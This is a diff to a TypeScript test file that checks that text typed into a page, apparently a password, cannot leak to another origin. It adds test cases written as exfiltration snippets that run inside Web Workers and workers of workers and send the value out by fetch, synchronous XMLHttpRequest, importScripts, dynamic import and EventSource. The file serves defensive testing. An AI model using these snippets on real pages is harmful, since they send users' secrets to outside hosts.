@@ -58,6 +58,14 @@ async function leak(script: string): Promise<void> {
 const form = (status: number): string =>
   `document.body.insertAdjacentHTML("beforeend", '<form method=post action="/to${status}" target=inner><input name=clave>'); document.forms[0].clave.value = clave; document.forms[0].submit()`
 
+const inWorker = (script: string): string =>
+  `new Worker(URL.createObjectURL(new Blob(['const clave = ' + JSON.stringify(clave) + ', other = ' + JSON.stringify(other) + ';' + ${JSON.stringify(script)}])))`
+const inWorkerOfWorker = (script: string): string =>
+  inWorker(
+    `new Worker(URL.createObjectURL(new Blob(['const clave = ' + JSON.stringify(clave) + ', other = ' + JSON.stringify(other) + ';' + ${JSON.stringify(script)}])))`,
+  )
+const POST = 'fetch(other + "/w", { method: "POST", mode: "no-cors", body: clave }).catch(() => 0)'
+
 /** What a page, or a script of others on it, can do with what is typed. */
 const leaks = [
   ['a request', 'fetch(other + "/a", { method: "POST", mode: "no-cors", body: clave }).catch(() => 0)'],
@@ -71,6 +79,15 @@ const leaks = [
     'a request redirected with its body',
     'fetch("/to307", { method: "POST", mode: "no-cors", body: clave }).catch(() => 0)',
   ],
+  ['a worker', inWorker(POST)],
+  ['a worker of a worker', inWorkerOfWorker(POST)],
+  [
+    'a waiting request of a worker',
+    inWorker('const x = new XMLHttpRequest(); x.open("POST", other + "/x", false); x.send(clave)'),
+  ],
+  ['the address of a script of a worker', inWorker('importScripts(other + "/i?d=" + btoa(clave))')],
+  ['the address of a worker of a worker', inWorkerOfWorker('import(other + "/j?d=" + clave)')],
+  ['events that a worker waits for', inWorker('new EventSource(other + "/k?d=" + clave)')],
 ] as const
 
 test.each(leaks)('what is typed does not leave by %s', async (_how, script) => {
